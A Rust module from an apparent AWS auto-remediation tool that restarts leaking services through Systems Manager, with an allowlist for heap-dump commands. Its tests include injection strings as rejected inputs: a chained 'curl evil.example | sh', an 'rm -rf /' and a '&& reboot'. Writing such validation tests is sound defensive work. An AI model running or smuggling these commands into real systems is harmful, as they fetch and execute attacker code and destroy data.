//! `restart-process`: restart a leaking application process through Systems Manager.
//!
//! The resource is an EC2 instance (the `InstanceId` of the CloudWatch agent's
//! `mem_used_percent`). The instance must be running, not opted out, and managed by Systems
//! Manager with its agent online; then a Run Command of the stack's restart document (its
//! name in `AUTOHEAL_RESTART_DOCUMENT`; `RestartProcessDocument` in `template.yaml`) runs on
//! it. That document is all a restart can run: it takes the unit's name and numbers, never a
//! command, and
//!
//! 1. optionally takes a heap dump of the unit's main process with one of the tools it knows
//!    (`jcmd`, `jmap`, `gcore`: the rule's `heap_dump_command` must be one of their
//!    [`HEAP_DUMP_COMMANDS`]), bounded in time (`timeout`) and size: not without twice
//!    `heap_dump_max_mb` free in its directory, and a larger dump is deleted, so that a
//!    post-mortem never fills the instance's disk. Whatever becomes of it, the restart goes
//!    on; the record names the file;
//! 2. `systemctl stop <service>`, which stops the unit gracefully (its `ExecStop`), bounded
//!    by `stop_timeout_seconds`, after which the unit is killed;
//! 3. `systemctl start <service>`: the process starts again with fresh memory.
//!
//! `SendCommand` takes no client token: the command's comment carries the attempt's
//! idempotency token, and a retried attempt that finds a command with that token on the
//! instance (every page of `ListCommands`: a busy instance has many) does not send a second
//! one.
//!
//! Before an attempt, [`ProcessRestarter::assess`] looks at the instance: terminated or
//! unknown to EC2, it is gone; tagged `autoheal:stop-start`, autoheal's own EC2 healing is
//! stopping and starting it (its processes start fresh with it), and the restart waits.

use std::collections::BTreeMap;

use aws_sdk_ec2::Client as Ec2Client;
use aws_sdk_ec2::types::{Instance, InstanceStateName};
use aws_sdk_ssm::Client as SsmClient;
use aws_sdk_ssm::types::{
    CommandFilter, CommandFilterKey, InstanceInformationStringFilter, PingStatus,
};

use autoheal_aws::errors::api_error;
use autoheal_aws::tags::pairs_opt_out;
use autoheal_core::{Assessment, HealError, HealOutcome, HealRequest, SkipReason};

/// If the command has not started on the instance by then, it does not run at all: a restart
/// that comes late is no longer the one the alarm asked for.
const DELIVERY_TIMEOUT_SECONDS: i32 = 120;

/// How far back a retried attempt looks for the command it may already have sent: longer
/// than any claim lease.
const RETRY_LOOKBACK_HOURS: i64 = 6;

/// `SendCommand` accepts comments of at most this many characters.
const COMMENT_MAX: usize = 100;

/// The tag autoheal's EC2 healing puts on an instance it is stopping and starting.
pub const STOP_START_TAG: &str = "autoheal:stop-start";

/// How long a restart waits before looking again at an instance autoheal is stopping and
/// starting.
const STOP_START_RECHECK_SECONDS: u64 = 60;

/// What a restart runs on the instance.
#[derive(Debug, Clone, Copy)]
pub struct RestartPlan<'a> {
    pub service: &'a str,
    pub heap_dump: Option<HeapDump<'a>>,
    pub stop_timeout_seconds: u32,
}

/// The diagnostic taken before a restart.
#[derive(Debug, Clone, Copy)]
pub struct HeapDump<'a> {
    /// With `{pid}` and `{output}` (checked when the rules load).
    pub command: &'a str,
    pub timeout_seconds: u32,
    pub max_mb: u32,
    pub directory: &'a str,
}

// The heap-dump commands the restart document runs are part of the rules' vocabulary: a rules
// file naming any other is refused when it is loaded.
pub use autoheal_core::model::rules::{HEAP_DUMP_COMMANDS, heap_dump_tool};

/// The restart document's parameters for a plan, and the file the heap dump goes to if one
/// is taken; `Err` names a heap-dump command the document does not run.
pub fn document_parameters(
    plan: &RestartPlan<'_>,
    token: &str,
) -> Result<(BTreeMap<&'static str, String>, Option<String>), String> {
    let mut parameters = BTreeMap::from([
        ("unit", plan.service.to_owned()),
        ("stopTimeoutSeconds", plan.stop_timeout_seconds.to_string()),
        ("heapDump", "none".to_owned()),
    ]);
    let Some(dump) = plan.heap_dump else {
        return Ok((parameters, None));
    };
    let tool = heap_dump_tool(dump.command).ok_or_else(|| {
        format!(
            "heap_dump_command `{}` is not one the restart document runs (it runs no command \
             of a rule's own): use one of {}",
            dump.command,
            HEAP_DUMP_COMMANDS
                .iter()
                .map(|(command, _)| format!("`{command}`"))
                .collect::<Vec<_>>()
                .join(", ")
        )
    })?;
    let directory = dump.directory.trim_end_matches('/');
    let directory = if directory.is_empty() { "/" } else { directory };
    // The token's unique tail names the file: one dump per attempt.
    let token: Vec<char> = token.chars().filter(char::is_ascii_alphanumeric).collect();
    let tail: String = token[token.len().saturating_sub(12)..].iter().collect();
    let tail = if tail.is_empty() {
        "dump".to_owned()
    } else {
        tail
    };
    let file = format!("{directory}/{}-{tail}.dump", plan.service);
    parameters.extend([
        ("heapDump", tool.to_owned()),
        ("heapDumpTimeoutSeconds", dump.timeout_seconds.to_string()),
        ("heapDumpMaxMb", dump.max_mb.to_string()),
        ("heapDumpDirectory", directory.to_owned()),
        ("dumpName", tail),
    ]);
    Ok((parameters, Some(file)))
}

/// Restarts processes on instances with Systems Manager Run Command of the restart document.
#[derive(Debug, Clone)]
pub struct ProcessRestarter {
    ec2: Ec2Client,
    ssm: SsmClient,
    /// The stack's restart document, the one document a restart sends.
    document: String,
}

impl ProcessRestarter {
    pub fn new(ec2: Ec2Client, ssm: SsmClient, document: impl Into<String>) -> Self {
        ProcessRestarter {
            ec2,
            ssm,
            document: document.into(),
        }
    }

    pub async fn restart(
        &self,
        request: HealRequest<'_>,
        plan: RestartPlan<'_>,
    ) -> Result<HealOutcome, HealError> {
        let service = plan.service;
        let document = self.document.as_str();
        let instance_id = request.resource_id;
        let Some(instance) = self.instance(instance_id).await? else {
            return Ok(HealOutcome::Skipped {
                reason: SkipReason::Gone,
                summary: gone(instance_id),
            });
        };
        if is_gone(&instance) {
            return Ok(HealOutcome::Skipped {
                reason: SkipReason::Gone,
                summary: gone(instance_id),
            });
        }
        if has_tag(&instance, STOP_START_TAG) {
            return Ok(HealOutcome::Skipped {
                reason: SkipReason::ResourceBusy,
                summary: stopping_and_starting(instance_id),
            });
        }
        let state = instance.state().and_then(|s| s.name());
        if state != Some(&InstanceStateName::Running) {
            let state = state.map_or("in an unknown state", InstanceStateName::as_str);
            return Ok(HealOutcome::Skipped {
                reason: SkipReason::NotNeeded,
                summary: format!("{instance_id} is {state}, not running: no process to restart"),
            });
        }
        if pairs_opt_out(
            instance
                .tags()
                .iter()
                .filter_map(|tag| Some((tag.key()?, tag.value()?))),
        ) {
            return Ok(HealOutcome::Skipped {
                reason: SkipReason::OptedOut,
                summary: format!("{instance_id} {}", autoheal_aws::tags::opted_out_phrase()),
            });
        }
        match self.ping_status(instance_id).await? {
            Some(PingStatus::Online) => {}
            Some(status) => {
                return Ok(HealOutcome::Skipped {
                    reason: SkipReason::Unsafe,
                    summary: format!(
                        "the Systems Manager agent of {instance_id} is {}, not online: the restart could not be delivered",
                        status.as_str()
                    ),
                });
            }
            None => {
                return Ok(HealOutcome::Skipped {
                    reason: SkipReason::Unsafe,
                    summary: format!("{instance_id} is not managed by Systems Manager"),
                });
            }
        }

        let comment = comment(request.idempotency_token, request.incident_id);
        if let Some(command_id) = self
            .earlier_command(instance_id, request.idempotency_token)
            .await?
        {
            return Ok(HealOutcome::Skipped {
                reason: SkipReason::NotNeeded,
                summary: format!(
                    "this attempt already sent the restart of {service} on {instance_id} (command {command_id})"
                ),
            });
        }
        let (parameters, dump) = document_parameters(&plan, request.idempotency_token)
            .map_err(|why| HealError::new(format!("{why}; nothing was sent to {instance_id}")))?;
        let sent = self
            .ssm
            .send_command()
            .instance_ids(instance_id)
            .document_name(document)
            .set_parameters(Some(
                parameters
                    .into_iter()
                    .map(|(name, value)| (name.to_owned(), vec![value]))
                    .collect(),
            ))
            .comment(comment)
            .timeout_seconds(DELIVERY_TIMEOUT_SECONDS)
            .send()
            .await
            .map_err(|e| api_error("SendCommand", e))?;
        let command_id = sent
            .command()
            .and_then(|command| command.command_id())
            .ok_or_else(|| HealError::new("SendCommand returned no command id"))?
            .to_owned();
        let mut details = BTreeMap::from([
            ("command_id".to_owned(), command_id.clone()),
            ("document".to_owned(), document.to_owned()),
            ("service".to_owned(), service.to_owned()),
            (
                "stop_timeout_seconds".to_owned(),
                plan.stop_timeout_seconds.to_string(),
            ),
        ]);
        let mut summary = format!(
            "sent the restart of {service} to {instance_id} with {document} (command {command_id}): a graceful stop of up to {} s, then a start",
            plan.stop_timeout_seconds
        );
        if let (Some(heap_dump), Some(dump)) = (plan.heap_dump, dump) {
            summary.push_str(&format!(
                "; first a heap dump to {dump} (at most {} s and {} MB)",
                heap_dump.timeout_seconds, heap_dump.max_mb
            ));
            details.insert(
                "heap_dump_location".to_owned(),
                format!("{instance_id}:{dump}"),
            );
            details.insert("heap_dump_command".to_owned(), heap_dump.command.to_owned());
        }
        Ok(HealOutcome::Healed {
            summary,
            details,
            reverts: Vec::new(),
        })
    }

    /// Looks at the instance before an attempt: gone, or being stopped and started by
    /// autoheal's EC2 healing (wait: its processes start fresh with it).
    pub async fn assess(&self, request: HealRequest<'_>) -> Result<Assessment, HealError> {
        let instance_id = request.resource_id;
        let Some(instance) = self.instance(instance_id).await? else {
            return Ok(Assessment::gone(gone(instance_id)));
        };
        if is_gone(&instance) {
            return Ok(Assessment::gone(gone(instance_id)));
        }
        if has_tag(&instance, STOP_START_TAG) {
            return Ok(Assessment::resource_busy(
                stopping_and_starting(instance_id),
                STOP_START_RECHECK_SECONDS,
            ));
        }
        Ok(Assessment::Proceed)
    }

    /// The instance as EC2 describes it; `None` when EC2 does not know it.
    async fn instance(&self, instance_id: &str) -> Result<Option<Instance>, HealError> {
        autoheal_aws::lookups::find_instance(&self.ec2, instance_id).await
    }

    /// The agent's ping status, or `None` when Systems Manager does not manage the instance.
    async fn ping_status(&self, instance_id: &str) -> Result<Option<PingStatus>, HealError> {
        let filter = InstanceInformationStringFilter::builder()
            .key("InstanceIds")
            .values(instance_id)
            .build()
            .map_err(|e| HealError::new(format!("DescribeInstanceInformation: {e}")))?;
        let mut pages = self
            .ssm
            .describe_instance_information()
            .filters(filter)
            .into_paginator()
            .items()
            .send();
        while let Some(info) = pages.next().await {
            let info = info.map_err(|e| api_error("DescribeInstanceInformation", e))?;
            if info.instance_id() == Some(instance_id) {
                return Ok(Some(
                    info.ping_status().cloned().unwrap_or(PingStatus::Inactive),
                ));
            }
        }
        Ok(None)
    }

    /// A command this attempt already sent to the instance (its comment starts with the token).
    async fn earlier_command(
        &self,
        instance_id: &str,
        token: &str,
    ) -> Result<Option<String>, HealError> {
        let since = chrono::Utc::now() - chrono::Duration::hours(RETRY_LOOKBACK_HOURS);
        let recent = CommandFilter::builder()
            .key(CommandFilterKey::InvokedAfter)
            .value(since.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
            .build()
            .map_err(|e| HealError::new(format!("ListCommands: {e}")))?;
        let ours = format!("autoheal {token}");
        let mut pages = self
            .ssm
            .list_commands()
            .instance_id(instance_id)
            .filters(recent)
            .into_paginator()
            .items()
            .send();
        while let Some(command) = pages.next().await {
            let command = command.map_err(|e| api_error("ListCommands", e))?;
            if command
                .comment()
                .is_some_and(|comment| comment.starts_with(&ours))
                && let Some(id) = command.command_id()
            {
                return Ok(Some(id.to_owned()));
            }
        }
        Ok(None)
    }
}

/// Whether the instance is terminated or on its way there: nothing left to restart.
fn is_gone(instance: &Instance) -> bool {
    matches!(
        instance.state().and_then(|state| state.name()),
        None | Some(InstanceStateName::Terminated | InstanceStateName::ShuttingDown)
    )
}

fn has_tag(instance: &Instance, key: &str) -> bool {
    instance.tags().iter().any(|tag| tag.key() == Some(key))
}

fn gone(instance_id: &str) -> String {
    format!("{instance_id} is terminated or unknown to EC2: there is no process left to restart")
}

fn stopping_and_starting(instance_id: &str) -> String {
    format!(
        "{instance_id} is tagged {STOP_START_TAG}: autoheal's EC2 healing is stopping and starting it, and its processes start fresh with it"
    )
}

/// `autoheal <token>: incident <id>`, cut to what `SendCommand` accepts (the token first, so
/// that it survives the cut).
fn comment(token: &str, incident_id: &str) -> String {
    format!("autoheal {token}: incident {incident_id}")
        .chars()
        .take(COMMENT_MAX)
        .collect()
}

#[cfg(test)]
#[allow(clippy::expect_used)]
mod tests {
    use super::*;

    fn plan(heap_dump: Option<HeapDump<'static>>) -> RestartPlan<'static> {
        RestartPlan {
            service: "app",
            heap_dump,
            stop_timeout_seconds: 45,
        }
    }

    fn dump(command: &'static str) -> HeapDump<'static> {
        HeapDump {
            command,
            timeout_seconds: 90,
            max_mb: 512,
            directory: "/var/tmp/autoheal/",
        }
    }

    #[test]
    fn without_a_heap_dump_the_document_stops_the_unit_gracefully_then_starts_it() {
        let (parameters, file) = document_parameters(&plan(None), "token-1").expect("a plan");
        assert_eq!(file, None);
        assert_eq!(
            parameters,
            BTreeMap::from([
                ("unit", "app".to_owned()),
                ("stopTimeoutSeconds", "45".to_owned()),
                ("heapDump", "none".to_owned()),
            ])
        );
    }

    #[test]
    fn a_heap_dump_names_the_documents_tool_its_bounds_and_the_attempts_file() {
        let (parameters, file) = document_parameters(
            &plan(Some(dump("jcmd {pid}  GC.heap_dump {output}"))),
            "3f2a-9c!",
        )
        .expect("a known command");
        assert_eq!(file.as_deref(), Some("/var/tmp/autoheal/app-3f2a9c.dump"));
        assert_eq!(parameters["heapDump"], "jcmd");
        assert_eq!(parameters["heapDumpTimeoutSeconds"], "90");
        assert_eq!(parameters["heapDumpMaxMb"], "512");
        assert_eq!(parameters["heapDumpDirectory"], "/var/tmp/autoheal");
        assert_eq!(parameters["dumpName"], "3f2a9c");
    }

    #[test]
    fn each_known_heap_dump_command_has_its_tool_and_no_other_command_runs() {
        for (command, tool) in HEAP_DUMP_COMMANDS {
            assert_eq!(heap_dump_tool(command), Some(tool), "{command}");
        }
        for command in [
            "jcmd {pid} GC.heap_dump {output}; curl evil.example | sh",
            "sh -c 'rm -rf /' {output}",
            "gcore -o {output} {pid} && reboot",
        ] {
            assert_eq!(heap_dump_tool(command), None, "{command}");
            let why = document_parameters(&plan(Some(dump(command))), "t")
                .expect_err("not a command the document runs");
            assert!(why.contains("jcmd {pid} GC.heap_dump {output}"), "{why}");
        }
    }
}
